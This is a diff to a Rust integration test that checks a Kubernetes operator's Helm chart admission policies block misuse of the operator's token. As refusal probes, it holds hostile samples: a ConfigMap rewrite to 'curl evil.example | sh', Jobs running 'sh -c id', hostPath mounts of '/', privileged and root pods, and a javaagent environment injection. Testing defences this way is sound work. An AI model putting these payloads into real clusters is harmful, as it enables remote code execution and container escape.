@@ -1,20 +1,24 @@
 //! The chart's RBAC is what the operator runs on: the chart's ServiceAccount, ClusterRole
-//! and bindings (or its Roles, for a namespaced install) are applied as `helm template`
-//! renders them, and the operator runs as that ServiceAccount, with a token from the
-//! TokenRequest API, and the leader-election flags the chart's Deployment gives it. It
-//! issues clients, distributes keys and rotates one without a single refusal, while
-//! `kubectl auth can-i` shows what the same ServiceAccount may not do.
+//! and bindings (or its Roles, for a namespaced install) and its admission policies are
+//! applied as `helm template` renders them, and the operator runs as that
+//! ServiceAccount, with a token from the TokenRequest API, and the leader-election flags
+//! and Job image the chart's Deployment gives it. It issues clients, distributes keys and
+//! rotates one without a single refusal, while `kubectl auth can-i` shows what the same
+//! ServiceAccount may not do, and the API server refuses every Job and workload change
+//! made with its token that is not keyward's own.
 
 use std::io::Write;
 use std::path::PathBuf;
 use std::process::{Command, Stdio};
 
+use k8s_openapi::api::apps::v1::{Deployment, StatefulSet};
 use k8s_openapi::api::authentication::v1::{TokenRequest, TokenRequestSpec};
 use k8s_openapi::api::batch::v1::Job;
-use k8s_openapi::api::core::v1::ServiceAccount;
+use k8s_openapi::api::core::v1::{ConfigMap, ServiceAccount};
+use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
 use keyward::crd::{EncryptionKey, OAuthClient};
-use kube::api::{Api, PostParams};
-use kube::config::Kubeconfig;
+use kube::api::{Api, Patch, PatchParams, PostParams};
+use kube::config::{KubeConfigOptions, Kubeconfig};
 use serde_json::json;
 
 use crate::encryption_key::deploy;
@@ -37,6 +41,11 @@ struct Install {
     watch_namespaces: Vec<String>,
     /// The chart's leader-election flags, as its Deployment passes them.
     leader_election_args: Vec<String>,
+    /// The re-encryption Jobs' image: the chart's `--job-image`, else the operator's own
+    /// image, which the operator reads from its Pod (a test's operator runs in none).
+    job_image: String,
+    /// The names of the chart's ValidatingAdmissionPolicies.
+    policies: Vec<String>,
     /// A kubeconfig that authenticates as the ServiceAccount.
     kubeconfig: PathBuf,
 }
@@ -51,12 +60,23 @@ impl Install {
     }
 
     /// The operator as the ServiceAccount, watching `namespace`, with re-encryption Jobs
-    /// on the job runner's node and the chart's leader election.
+    /// on the job runner's node, the chart's Job image and the chart's leader election.
     fn operator(&self, namespace: &str) -> Operator {
         let mut args: Vec<String> = job_placement().into();
+        args.push(format!("--job-image={}", self.job_image));
         args.extend(self.leader_election_args.iter().cloned());
         let args: Vec<&str> = args.iter().map(String::as_str).collect();
         Operator::start(&self.kubeconfig, namespace, &args)
+    }
+
+    /// A client that authenticates with the operator's token, as a thief of it would.
+    async fn client(&self) -> kube::Client {
+        let kubeconfig = Kubeconfig::read_from(&self.kubeconfig).expect("the kubeconfig parses");
+        let config =
+            kube::Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
+                .await
+                .expect("a client config");
+        kube::Client::try_from(config).expect("a client")
     }
 }
 
@@ -81,6 +101,18 @@ async fn install(cluster: &TestCluster, namespace: &str, values: &[&str]) -> Ins
     };
     let rbac = render(&["templates/serviceaccount.yaml", "templates/rbac.yaml"]);
     kubectl_apply(&rbac);
+    let policies = render(&["templates/admission-policies.yaml"]);
+    kubectl_apply(&policies);
+    let policies = manifest::documents(&policies)
+        .iter()
+        .filter(|document| document["kind"] == "ValidatingAdmissionPolicy")
+        .map(|document| {
+            document["metadata"]["name"]
+                .as_str()
+                .expect("a name")
+                .to_owned()
+        })
+        .collect();
     let documents = manifest::documents(&rbac);
     let kinds = documents
         .iter()
@@ -97,7 +129,8 @@ async fn install(cluster: &TestCluster, namespace: &str, values: &[&str]) -> Ins
         .into_iter()
         .find(|document| document["kind"] == "Deployment")
         .expect("the chart renders a Deployment");
-    let args: Vec<String> = deployment["spec"]["template"]["spec"]["containers"][0]["args"]
+    let container = &deployment["spec"]["template"]["spec"]["containers"][0];
+    let args: Vec<String> = container["args"]
         .as_array()
         .expect("the operator's args")
         .iter()
@@ -117,17 +150,38 @@ async fn install(cluster: &TestCluster, namespace: &str, values: &[&str]) -> Ins
         leader_election_args.contains(&"--leader-elect=true".to_owned()),
         "the chart elects a leader by default: {args:?}"
     );
+    let job_image = args
+        .iter()
+        .find_map(|arg| arg.strip_prefix("--job-image="))
+        .or(container["image"].as_str())
+        .expect("the operator's image")
+        .to_owned();
 
     let token = service_account_token(cluster, namespace, &service_account).await;
     let kubeconfig = write_kubeconfig(namespace, &token);
-    Install {
+    let install = Install {
         namespace: namespace.to_owned(),
         service_account,
         kinds,
         watch_namespaces,
         leader_election_args,
+        job_image,
+        policies,
         kubeconfig,
-    }
+    };
+    // Every test runs the operator under the policies, not in the moments before the API
+    // server enforces them. The probe goes where the operator may create Jobs.
+    let probed = install
+        .watch_namespaces
+        .first()
+        .map_or(namespace, String::as_str);
+    let jobs = Api::namespaced(install.client().await, probed);
+    let mut probe = reencryption_job(probed, &install.job_image);
+    probe["spec"]["template"]["spec"]["containers"][0]["image"] =
+        json!("docker.io/library/busybox:1.36");
+    let probe: Job = serde_json::from_value(probe).expect("a Job");
+    until_enforced(&jobs, &probe, &install.policies).await;
+    install
 }
 
 /// `kubectl apply --server-side` of `manifests` as the cluster's admin.
@@ -496,5 +550,643 @@ async fn a_namespaced_install_works_in_its_namespaces_and_reads_nothing_outside_
             format!("get pods -n {release_namespace}"),
             format!("patch leases.coordination.k8s.io/{lease} -n {release_namespace}"),
         ],
+    );
+}
+
+/// The re-encryption Job keyward creates for key `apim` (`src/controller/encryption_key/
+/// jobs.rs`), reduced to what the Jobs policy reads.
+fn reencryption_job(namespace: &str, image: &str) -> serde_json::Value {
+    json!({
+        "apiVersion": "batch/v1", "kind": "Job",
+        "metadata": {"name": "apim-reencrypt-probe"},
+        "spec": {"template": {
+            "metadata": {"labels": {"app.kubernetes.io/managed-by": "keyward"}},
+            "spec": {
+                "serviceAccountName": "apim-reencrypt",
+                "restartPolicy": "Never",
+                "securityContext": {"runAsNonRoot": true, "runAsUser": 65532},
+                "containers": [{
+                    "name": "reencrypt",
+                    "image": image,
+                    "command": ["keyward"],
+                    "args": ["reencrypt", "--key", format!("{namespace}/apim"), "--progress", "apim-reencryption"],
+                    "securityContext": {
+                        "allowPrivilegeEscalation": false,
+                        "readOnlyRootFilesystem": true,
+                        "capabilities": {"drop": ["ALL"]},
+                    },
+                }],
+            },
+        }},
+    })
+}
+
+/// What keyward server-side-applies to Deployment `apim` for key `apim` with a volume
+/// projection (`src/workload.rs`), under the key's field manager.
+fn keyward_projection() -> serde_json::Value {
+    json!({
+        "apiVersion": "apps/v1", "kind": "Deployment",
+        "metadata": {"name": "apim"},
+        "spec": {"template": {
+            "metadata": {"annotations": {
+                "keyward.io/keyring-hash.apim": "probe",
+                "keyward.io/projection.apim": "probe",
+            }},
+            "spec": {
+                "containers": [{
+                    "name": "apim",
+                    "volumeMounts": [{"name": "keyward-apim", "mountPath": "/etc/keyward", "readOnly": true}],
+                }],
+                "volumes": [{"name": "keyward-apim", "secret": {"secretName": "apim-distribution"}}],
+            },
+        }},
+    })
+}
+
+/// Whether `result` is a refusal by one of `policies`: its message, or why it is not one.
+fn policy_refusal<T>(
+    result: Result<T, kube::Error>,
+    policies: &[String],
+) -> Result<String, String> {
+    match result {
+        Ok(_) => Err("admitted".to_owned()),
+        Err(kube::Error::Api(status))
+            if status.code == 403
+                && policies.iter().any(|policy| {
+                    status
+                        .message
+                        .contains(&format!("ValidatingAdmissionPolicy '{policy}'"))
+                }) =>
+        {
+            Ok(status.message)
+        }
+        Err(error) => Err(format!("refused, but not by the chart's policies: {error}")),
+    }
+}
+
+/// Records in `wrong` why `result` of `what` is not a refusal by one of `policies` whose
+/// message holds `expected`.
+fn check<T>(
+    wrong: &mut Vec<String>,
+    policies: &[String],
+    what: &str,
+    expected: &str,
+    result: Result<T, kube::Error>,
+) {
+    match policy_refusal(result, policies) {
+        Ok(message) if message.contains(expected) => {}
+        Ok(message) => wrong.push(format!("{what}: refused for another reason: {message}")),
+        Err(why) => wrong.push(format!("{what}: {why}")),
+    }
+}
+
+/// Waits until the API server enforces the chart's policies: it loads new ones
+/// asynchronously, so the first requests after they are created may still pass.
+async fn until_enforced(jobs: &Api<Job>, probe: &Job, policies: &[String]) {
+    let dry_run = PostParams {
+        dry_run: true,
+        ..PostParams::default()
+    };
+    let refused = async {
+        let mut ticks = tokio::time::interval(std::time::Duration::from_millis(200));
+        loop {
+            ticks.tick().await;
+            if policy_refusal(jobs.create(&dry_run, probe).await, policies).is_ok() {
+                return;
+            }
+        }
+    };
+    tokio::time::timeout(support::WAIT, refused)
+        .await
+        .expect("the API server enforces the chart's admission policies in time");
+}
+
+#[tokio::test]
+async fn the_operators_token_writes_only_keywards_own_jobs_workload_fields_and_objects() {
+    let cluster = support::cluster("chart-admission").await;
+    let namespace = cluster.namespace.clone();
+    let _log = jobs::runner().log_on_failure(&namespace);
+    let install = install(&cluster, &namespace, &[]).await;
+    assert_eq!(
+        install.policies.len(),
+        3,
+        "a policy for Jobs, one for workloads, one for the objects keyward writes"
+    );
+    let operator = install.operator(&namespace);
+
+    // keyward's own writes pass: a volume into a Deployment, an environment variable
+    // into one of a StatefulSet's two containers.
+    deploy(&cluster, "apim", 1).await;
+    let stateful_set = json!({
+        "apiVersion": "apps/v1", "kind": "StatefulSet",
+        "metadata": {"name": "gateway"},
+        "spec": {
+            "replicas": 1, "serviceName": "gateway",
+            "selector": {"matchLabels": {"app": "gateway"}},
+            "template": {
+                "metadata": {"labels": {"app": "gateway"}},
+                "spec": {"containers": [
+                    {"name": "gateway", "image": "example/gateway:1", "env": [{"name": "MODE", "value": "edge"}]},
+                    {"name": "metrics", "image": "example/metrics:1"},
+                ]},
+            },
+        },
+    });
+    manifest::apply(&cluster.client, &namespace, "argocd", &stateful_set)
+        .await
+        .expect("StatefulSet applies");
+    manifest::apply_keyward(
+        &cluster,
+        "EncryptionKey",
+        "apim",
+        json!({"targets": [{"kind": "Deployment", "name": "apim"}]}),
+    )
+    .await;
+    manifest::apply_keyward(
+        &cluster,
+        "EncryptionKey",
+        "gateway",
+        json!({
+            "targets": [{"kind": "StatefulSet", "name": "gateway"}],
+            "distribution": {"projection": "Env", "format": "Hex", "envName": "GATEWAY_KEY", "containers": ["gateway"]},
+        }),
+    )
+    .await;
+    until_distributed(&cluster, "apim").await;
+    until_distributed(&cluster, "gateway").await;
+    assert_never_refused(&operator, &namespace);
+    drop(operator);
+
+    let as_operator = install.client().await;
+    let policies = &install.policies;
+    let dry_run = PostParams {
+        dry_run: true,
+        ..PostParams::default()
+    };
+
+    // Jobs: only `keyward reencrypt`, in keyward's image, as a -reencrypt account.
+    let jobs: Api<Job> = Api::namespaced(as_operator.clone(), &namespace);
+    let keywards = reencryption_job(&namespace, &install.job_image);
+    let job = |change: &dyn Fn(&mut serde_json::Value)| -> Job {
+        let mut job = keywards.clone();
+        change(&mut job);
+        serde_json::from_value(job).expect("a Job")
+    };
+    let another_image = job(&|job| {
+        job["spec"]["template"]["spec"]["containers"][0]["image"] =
+            json!("docker.io/library/busybox:1.36");
+    });
+    let refused_jobs: [(&str, &str, Job); 8] = [
+        ("another image", "keyward's image", another_image),
+        (
+            "keyward's repository with another tag",
+            "keyward's image",
+            job(&|job| {
+                let image = install
+                    .job_image
+                    .rsplit_once(':')
+                    .map_or("keyward", |(repository, _)| repository);
+                job["spec"]["template"]["spec"]["containers"][0]["image"] =
+                    json!(format!("{image}:evil"));
+            }),
+        ),
+        (
+            "another command",
+            "`keyward reencrypt`",
+            job(&|job| {
+                job["spec"]["template"]["spec"]["containers"][0]["command"] =
+                    json!(["sh", "-c", "id"]);
+            }),
+        ),
+        (
+            "keyward's binary, another subcommand",
+            "`keyward reencrypt`",
+            job(&|job| {
+                job["spec"]["template"]["spec"]["containers"][0]["args"] =
+                    json!(["run", "--namespace", "kube-system"]);
+            }),
+        ),
+        (
+            "another ServiceAccount",
+            "-reencrypt ServiceAccount",
+            job(&|job| {
+                job["spec"]["template"]["spec"]["serviceAccountName"] = json!("default");
+            }),
+        ),
+        (
+            "another ServiceAccount through the deprecated field",
+            "-reencrypt ServiceAccount",
+            job(&|job| {
+                let pod = &mut job["spec"]["template"]["spec"];
+                pod.as_object_mut()
+                    .expect("a pod spec")
+                    .remove("serviceAccountName");
+                pod["serviceAccount"] = json!("default");
+            }),
+        ),
+        (
+            "a host path",
+            "mounts no volume",
+            job(&|job| {
+                let pod = &mut job["spec"]["template"]["spec"];
+                pod["volumes"] = json!([{"name": "root", "hostPath": {"path": "/"}}]);
+                pod["containers"][0]["volumeMounts"] =
+                    json!([{"name": "root", "mountPath": "/host"}]);
+            }),
+        ),
+        (
+            "a job template's Job while templates are off",
+            "policy.allowJobTemplates is false",
+            job(&|job| {
+                let pod = &mut job["spec"]["template"]["spec"];
+                pod["serviceAccountName"] = json!("default");
+                pod["containers"][0]["image"] = json!("docker.io/library/postgres:17");
+                pod["containers"][0]["command"] = json!(["psql"]);
+                pod["volumes"] = json!([{"name": "keyward-key-versions", "secret": {"secretName": "apim-versions-v2"}}]);
+            }),
+        ),
+    ];
+    let mut wrong = Vec::new();
+    for (what, expected, job) in &refused_jobs {
+        let result = jobs.create(&dry_run, job).await;
+        check(
+            &mut wrong,
+            policies,
+            &format!("a Job with {what}"),
+            expected,
+            result,
+        );
+    }
+    let admitted = jobs.create(&dry_run, &job(&|_| {})).await;
+    if let Err(error) = admitted {
+        wrong.push(format!("keyward's own Job: refused: {error}"));
+    }
+
+    // Workloads: only keyward.io/ annotations, keyward- volumes and their read-only
+    // mounts, and environment variables from a Secret.
+    let deployments: Api<Deployment> = Api::namespaced(as_operator.clone(), &namespace);
+    let manager = PatchParams::apply(&keyward::store::workload_manager("apim"))
+        .force()
+        .dry_run();
+    let patch = |change: &dyn Fn(&mut serde_json::Value)| {
+        let mut patch = keyward_projection();
+        change(&mut patch);
+        patch
+    };
+    let refused_patches = [
+        (
+            "another image",
+            "container's image",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"][0]["image"] =
+                    json!("docker.io/library/busybox:1.36");
+            }),
+        ),
+        (
+            "another command",
+            "container's image",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"][0]["command"] =
+                    json!(["sh", "-c", "id"]);
+            }),
+        ),
+        (
+            "other arguments",
+            "container's image",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"][0]["args"] = json!(["--debug"]);
+            }),
+        ),
+        (
+            "another ServiceAccount",
+            "pod template's spec only",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["serviceAccountName"] = json!("deployer");
+            }),
+        ),
+        (
+            "a pod security context as root",
+            "pod template's spec only",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["securityContext"] = json!({"runAsUser": 0});
+            }),
+        ),
+        (
+            "a privileged container",
+            "container's image",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"][0]["securityContext"] =
+                    json!({"privileged": true});
+            }),
+        ),
+        (
+            "a host network",
+            "pod template's spec only",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["hostNetwork"] = json!(true);
+            }),
+        ),
+        (
+            "an init container",
+            "pod template's spec only",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["initContainers"] =
+                    json!([{"name": "evil", "image": "docker.io/library/busybox:1.36"}]);
+            }),
+        ),
+        (
+            "another container",
+            "adds or removes no container",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"]
+                    .as_array_mut()
+                    .expect("containers")
+                    .push(json!({"name": "evil", "image": "docker.io/library/busybox:1.36"}));
+            }),
+        ),
+        (
+            "a host path in keyward's volume",
+            "are Secret volumes",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["volumes"] =
+                    json!([{"name": "keyward-apim", "hostPath": {"path": "/"}}]);
+            }),
+        ),
+        (
+            "a volume of another name",
+            "only its own volumes",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["volumes"]
+                    .as_array_mut()
+                    .expect("volumes")
+                    .push(json!({"name": "data", "emptyDir": {}}));
+            }),
+        ),
+        (
+            "a writable mount",
+            "mounts them read-only",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"][0]["volumeMounts"][0]["readOnly"] =
+                    json!(false);
+            }),
+        ),
+        (
+            "a literal environment variable",
+            "environment variables taken from a Secret",
+            patch(&|patch| {
+                patch["spec"]["template"]["spec"]["containers"][0]["env"] =
+                    json!([{"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:/tmp/agent.jar"}]);
+            }),
+        ),
+        (
+            "a pod template label",
+            "pod template's metadata",
+            patch(&|patch| {
+                patch["spec"]["template"]["metadata"]["labels"] = json!({"extra": "label"});
+            }),
+        ),
+        (
+            "another replica count",
+            "spec but its pod template",
+            patch(&|patch| {
+                patch["spec"]["replicas"] = json!(10);
+            }),
+        ),
+        (
+            "a workload annotation",
+            "label, annotation, owner",
+            patch(&|patch| {
+                patch["metadata"]["annotations"] = json!({"example.com/owner": "someone-else"});
+            }),
+        ),
+    ];
+    for (what, expected, patch) in &refused_patches {
+        let result = deployments
+            .patch("apim", &manager, &Patch::Apply(patch))
+            .await;
+        check(
+            &mut wrong,
+            policies,
+            &format!("a Deployment patch with {what}"),
+            expected,
+            result,
+        );
+    }
+    let admitted = deployments
+        .patch("apim", &manager, &Patch::Apply(keyward_projection()))
+        .await;
+    if let Err(error) = admitted {
+        wrong.push(format!("keyward's own Deployment patch: refused: {error}"));
+    }
+    let stateful_sets: Api<StatefulSet> = Api::namespaced(as_operator.clone(), &namespace);
+    let image = json!({
+        "apiVersion": "apps/v1", "kind": "StatefulSet",
+        "metadata": {"name": "gateway"},
+        "spec": {"template": {"spec": {"containers": [
+            {"name": "gateway", "image": "docker.io/library/busybox:1.36"},
+        ]}}},
+    });
+    let gateway_manager = PatchParams::apply(&keyward::store::workload_manager("gateway"))
+        .force()
+        .dry_run();
+    let result = stateful_sets
+        .patch("gateway", &gateway_manager, &Patch::Apply(&image))
+        .await;
+    check(
+        &mut wrong,
+        policies,
+        "a StatefulSet patch with another image",
+        "container's image",
+        result,
+    );
+    let literal = json!({
+        "apiVersion": "apps/v1", "kind": "StatefulSet",
+        "metadata": {"name": "gateway"},
+        "spec": {"template": {"spec": {"containers": [
+            {"name": "gateway", "env": [{"name": "MODE", "value": "debug"}]},
+        ]}}},
+    });
+    let result = stateful_sets
+        .patch("gateway", &gateway_manager, &Patch::Apply(&literal))
+        .await;
+    check(
+        &mut wrong,
+        policies,
+        "a StatefulSet patch of the user's own variable",
+        "environment variables taken from a Secret",
+        result,
+    );
+
+    // ConfigMaps, ServiceAccounts and RoleBindings: only keyward's own re-encryption
+    // identities and progress ConfigMaps.
+    let config_maps: Api<ConfigMap> = Api::namespaced(cluster.client.clone(), &namespace);
+    for name in ["app-config", "billing-reencryption"] {
+        let config_map = json!({
+            "apiVersion": "v1", "kind": "ConfigMap",
+            "metadata": {"name": name},
+            "data": {"start.sh": "exec /app/server"},
+        });
+        config_maps
+            .create(
+                &PostParams::default(),
+                &serde_json::from_value(config_map).expect("a ConfigMap"),
+            )
+            .await
+            .expect("the application's ConfigMap is created");
+    }
+    let config_maps: Api<ConfigMap> = Api::namespaced(as_operator.clone(), &namespace);
+    let rewrite = json!({"data": {"start.sh": "curl evil.example | sh"}});
+    let merge = PatchParams {
+        dry_run: true,
+        ..PatchParams::default()
+    };
+    for (name, expected) in [
+        ("app-config", "not app-config"),
+        ("billing-reencryption", "owned by an EncryptionKey"),
+    ] {
+        let result = config_maps
+            .patch(name, &merge, &Patch::Merge(&rewrite))
+            .await;
+        check(
+            &mut wrong,
+            policies,
+            &format!("a rewrite of the application's ConfigMap {name}"),
+            expected,
+            result,
+        );
+    }
+    let key = Api::<EncryptionKey>::namespaced(cluster.client.clone(), &namespace)
+        .get("apim")
+        .await
+        .expect("the EncryptionKey");
+    let keywards = json!({
+        "labels": {"app.kubernetes.io/managed-by": "keyward"},
+        "ownerReferences": [{
+            "apiVersion": "keyward.io/v1alpha1", "kind": "EncryptionKey",
+            "name": "apim", "uid": key.metadata.uid,
+        }],
+    });
+    let accounts: Api<ServiceAccount> = Api::namespaced(as_operator.clone(), &namespace);
+    let mut account =
+        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": keywards.clone()});
+    account["metadata"]["name"] = json!("deployer");
+    let result = accounts
+        .create(
+            &dry_run,
+            &serde_json::from_value(account).expect("a ServiceAccount"),
+        )
+        .await;
+    check(
+        &mut wrong,
+        policies,
+        "a ServiceAccount of another name",
+        "not deployer",
+        result,
+    );
+    // The Role a binding names must exist, and hold only what the operator holds, for
+    // the API server's escalation check to let the request through to admission.
+    let role = json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
+        "metadata": {"name": "apim-reencrypt"},
+        "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
+    });
+    Api::<Role>::namespaced(cluster.client.clone(), &namespace)
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(role).expect("a Role"),
+        )
+        .await
+        .expect("the Role is created");
+    let bindings: Api<RoleBinding> = Api::namespaced(as_operator.clone(), &namespace);
+    let mut binding = json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+        "metadata": keywards,
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "apim-reencrypt"},
+        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}],
+    });
+    binding["metadata"]["name"] = json!("apim-reencrypt");
+    let result = bindings
+        .create(
+            &dry_run,
+            &serde_json::from_value(binding).expect("a RoleBinding"),
+        )
+        .await;
+    check(
+        &mut wrong,
+        policies,
+        "a binding of keyward's Role to every authenticated user",
+        "only to the ServiceAccount of the same name",
+        result,
+    );
+    assert!(
+        wrong.is_empty(),
+        "the policies decided these requests made with the operator's token wrongly:\n{}",
+        wrong.join("\n")
+    );
+}
+
+/// With `policy.allowJobTemplates`, a Job from `spec.reencryption.jobTemplate` runs as its
+/// template says (the image and account are the user's opt-in), but never as a key's
+/// `-reencrypt` account or the operator's own, and keyward's own Jobs stay as narrow.
+#[tokio::test]
+async fn with_job_templates_on_the_operators_token_creates_template_jobs_but_not_as_keywards_accounts()
+ {
+    let cluster = support::cluster("chart-admission-templates").await;
+    let namespace = cluster.namespace.clone();
+    let install = install(
+        &cluster,
+        &namespace,
+        &["--set", "policy.allowJobTemplates=true"],
+    )
+    .await;
+    let policies = &install.policies;
+    let jobs: Api<Job> = Api::namespaced(install.client().await, &namespace);
+    let dry_run = PostParams {
+        dry_run: true,
+        ..PostParams::default()
+    };
+    let template_job = |account: &str| -> Job {
+        serde_json::from_value(json!({
+            "apiVersion": "batch/v1", "kind": "Job",
+            "metadata": {"name": "apim-external-probe"},
+            "spec": {"template": {"spec": {
+                "serviceAccountName": account,
+                "restartPolicy": "Never",
+                "containers": [{"name": "migrate", "image": "docker.io/library/postgres:17", "command": ["psql"]}],
+                "volumes": [{"name": "keyward-key-versions", "secret": {"secretName": "apim-versions-v2"}}],
+            }}},
+        }))
+        .expect("a Job")
+    };
+    let mut another_image = reencryption_job(&namespace, &install.job_image);
+    another_image["spec"]["template"]["spec"]["containers"][0]["image"] =
+        json!("docker.io/library/busybox:1.36");
+    let another_image: Job = serde_json::from_value(another_image).expect("a Job");
+
+    let mut wrong = Vec::new();
+    if let Err(error) = jobs.create(&dry_run, &template_job("migrator")).await {
+        wrong.push(format!(
+            "a template's Job as its own account: refused: {error}"
+        ));
+    }
+    let refused = [
+        (
+            "a template's Job as a key's -reencrypt account",
+            template_job("apim-reencrypt"),
+        ),
+        (
+            "a template's Job as the operator",
+            template_job(&install.service_account),
+        ),
+        ("keyward's Job with another image", another_image),
+    ];
+    for (what, job) in &refused {
+        let result = jobs.create(&dry_run, job).await;
+        check(&mut wrong, policies, what, "", result);
+    }
+    assert!(
+        wrong.is_empty(),
+        "the policies decided these requests made with the operator's token wrongly:\n{}",
+        wrong.join("\n")
     );
 }
